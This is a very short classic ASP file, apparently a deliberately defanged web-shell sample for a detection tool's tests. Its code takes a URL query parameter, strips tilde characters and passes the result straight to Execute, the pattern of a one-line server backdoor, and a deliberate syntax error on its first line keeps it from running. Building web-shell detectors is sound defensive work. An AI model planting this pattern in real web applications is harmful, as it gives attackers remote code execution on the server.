<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Dim a, b
a = Request.QueryString("a")
b = Replace(a, "~", "")
Execute(b)
%>
